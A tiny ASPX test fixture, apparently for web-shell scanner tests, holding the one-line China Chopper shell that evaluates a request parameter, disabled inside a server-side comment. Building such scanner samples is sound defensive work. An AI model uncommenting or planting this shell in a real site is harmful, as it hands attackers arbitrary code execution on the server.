<%-- INERT BULWARK SAMPLE: a planted China Chopper web shell for scanner tests, disabled inside an ASP.NET server-side comment. Nothing executes if this file is served. --%>
<%--
<%@ Page Language="Jscript"%><%eval(Request.Item["bulwark"],"unsafe");%>
--%>
